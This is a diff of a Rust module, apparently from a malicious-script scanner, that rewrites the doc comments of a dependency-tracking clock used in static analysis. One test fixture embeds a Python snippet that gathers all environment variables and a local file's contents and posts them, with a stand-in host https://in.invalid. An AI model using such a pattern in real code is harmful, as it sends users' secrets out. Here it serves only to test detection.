@@ -1,31 +1,31 @@
-//! [`Clock`]: which statements have to be gone through again, because something that they looked at has changed since.
+//! [`Clock`]: dependency tracking that selects the statements to re-evaluate in the next pass.
 //!
-//! Gone through again with all of that as it was, a statement finds what it found before. Most look at nothing that
-//! changes after them, so that a further round is for the few that do.
+//! A statement whose inputs are unchanged has the same result as before. Most statements read nothing that changes
+//! later, so that further passes evaluate only a few.
 
 use std::cell::RefCell;
 
 use super::super::program::Program;
 
-/// Slots of what can be looked at. Names that share one only have statements gone through once more.
+/// Number of dependency slots. Names that share a slot only cause additional evaluations.
 const SLOTS: usize = 1 << 12;
 
-/// The slot of all files that scripts write.
+/// Slot shared by all written files.
 const FILES: u16 = 0;
 
-/// When each statement was gone through, and when what it looked at has changed.
+/// Times of evaluation for each statement, and of change for each input.
 pub(super) struct Clock {
-    /// Counts the statements that were gone through.
+    /// Logical time: the number of evaluations so far.
     now: usize,
-    /// When what is in a slot has changed last.
+    /// Time of the last change, by slot.
     changed: Vec<usize>,
-    /// The slots of what the statement at hand has looked at.
+    /// Slots that the current statement has read.
     seen: RefCell<Vec<u16>>,
-    /// By program and statement; nothing before the first time.
+    /// Last evaluation by program and statement; `None` before the first.
     looks: Vec<Vec<Option<Look>>>,
 }
 
-/// When a statement was gone through last, and the slots that it looked at.
+/// Time of the last evaluation of a statement, and the slots that it read.
 #[derive(Clone)]
 struct Look {
     at: usize,
@@ -38,11 +38,11 @@ impl Clock {
         Self { now: 0, changed: vec![0; SLOTS], seen: RefCell::default(), looks }
     }
 
-    /// Whether a statement has to be gone through; then it begins.
+    /// Returns whether a statement has to be evaluated. If so, its evaluation begins.
     pub fn begins(&mut self, program: usize, step: usize) -> bool {
         let look = self.looks.get(program).and_then(|looks| looks.get(step)).and_then(Option::as_ref);
         let when = |slot: &u16| self.changed.get(usize::from(*slot)).copied().unwrap_or(usize::MAX);
-        // What a statement changes itself counts as changed after it.
+        // A change by the statement itself counts as later than its evaluation.
         let is_due = look.is_none_or(|look| look.slots.iter().any(|slot| when(slot) >= look.at));
         if is_due {
             self.now += 1;
@@ -51,19 +51,19 @@ impl Clock {
         is_due
     }
 
-    /// Ends the statement that began last.
+    /// Ends the evaluation that began last.
     pub fn ends(&mut self, program: usize, step: usize) {
         let look = Look { at: self.now, slots: self.seen.borrow().as_slice().into() };
         let place = self.looks.get_mut(program).and_then(|looks| looks.get_mut(step));
         place.into_iter().for_each(|place| *place = Some(look.clone()));
     }
 
-    /// The statement at hand looks at what has a name.
+    /// Records that the current statement reads a name.
     pub fn sees(&self, name: &str) {
         self.see(slot(name));
     }
 
-    /// The statement at hand looks at files that scripts write.
+    /// Records that the current statement reads written files.
     pub fn sees_files(&self) {
         self.see(FILES);
     }
@@ -75,12 +75,12 @@ impl Clock {
         }
     }
 
-    /// What has a name has changed.
+    /// Records that the value of a name has changed.
     pub fn changes(&mut self, name: &str) {
         self.change(slot(name));
     }
 
-    /// A file that scripts write has changed.
+    /// Records that a written file has changed.
     pub fn changes_files(&mut self) {
         self.change(FILES);
     }
@@ -90,7 +90,7 @@ impl Clock {
     }
 }
 
-/// The slot of a name: FNV-1a.
+/// Returns the slot of a name, by FNV-1a hash.
 fn slot(name: &str) -> u16 {
     let hash = name.bytes().fold(0x811c_9dc5_u32, |hash, byte| (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193));
     ((hash ^ (hash >> 16)) % SLOTS as u32) as u16
@@ -103,10 +103,10 @@ mod tests {
         *,
     };
 
-    /// Nothing is known of any host.
+    /// Host checks that do not know any host.
     const HOSTS: Hosts = Hosts { is_no_registry: |_| true, is_unknown_forge: |_| true, is_unchecked: |_| false };
 
-    /// A function that is called before what it uses is set, over functions, names and files in both orders.
+    /// Script whose functions, names and files are used before they are set, as well as after.
     const TURNED: &str = "import os, requests\n\
         def send(a):\n    post(read(a))\n    post(open(KEPT).read())\n\
         def read(a):\n    b = first(a)\n    return b\n\
@@ -115,7 +115,7 @@ mod tests {
         def wrap(a):\n    return [a, LATER]\n\
         send(LATER)\nb = LATER\nLATER = dict(os.environ)\nPLACE = BASE + '/x'\nBASE = 'https://in.invalid'\nKEPT = '/tmp/k'\n";
 
-    /// Rules with scripts as examples.
+    /// Rule files with scripts as examples.
     const RULES: [&str; 6] = [
         include_str!("../../../scan/rules/collection.toml"),
         include_str!("../../../scan/rules/credential_access.toml"),
@@ -125,7 +125,7 @@ mod tests {
         include_str!("../../../scan/rules/remote_code.toml"),
     ];
 
-    /// The examples of a file of rules, each with its path.
+    /// Returns the examples of a rule file as pairs of path and text.
     fn examples(file: &str) -> Vec<(String, String)> {
         let file: toml::Table = file.parse().unwrap();
         let list =
@@ -146,7 +146,7 @@ mod tests {
             else {
                 continue;
             };
-            // Twice, so that functions and files are shared by two programs.
+            // The program is passed twice, so that two programs share functions and files.
             let programs = [&program, &program];
             let all = Analysis { clock: Clock::new(&[]), ..Analysis::new(&programs, HOSTS) }.run();
             assert_eq!(Analysis::new(&programs, HOSTS).run(), all, "{text}");
